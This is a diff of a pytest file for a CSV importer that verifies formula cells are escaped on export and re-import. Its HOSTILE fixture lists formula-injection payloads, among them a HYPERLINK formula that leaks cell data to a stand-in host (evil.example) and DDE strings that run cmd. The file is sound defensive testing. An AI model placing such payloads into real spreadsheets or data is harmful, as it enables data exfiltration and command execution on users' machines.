@@ -10,12 +10,13 @@ import pytest
 from results_csv import read_results
 
 from importer.cli import main
-from importer.loader import open_table, protect_formula, unprotect_formula
+from importer.loader import open_table
+from importer.table import protect_formula, unprotect_formula
 
 MAPPING = (Path(__file__).parent / "fixtures" / "booth_scans.yaml").read_text(encoding="utf-8")
 HEADER = ["First Name", "Contact ID", "Event", "Action", "Scan Time", "Booth", "Campaign"]
 HOSTILE = {
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")": "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"x")': '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
     "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
@@ -45,9 +46,7 @@ def raw_lines(path: Path) -> list[list[str]]:
         return list(csv.reader(file))
 
 
-def test_formula_cells_are_guarded_in_results_and_errors_and_reimport_exactly(
-    tmp_path, sandbox
-):
+def test_formula_cells_are_guarded_in_results_and_errors_and_reimport_exactly(tmp_path, sandbox):
     (tmp_path / "map.yaml").write_text(MAPPING, encoding="utf-8")
     values = sorted(HOSTILE)
     rows = [
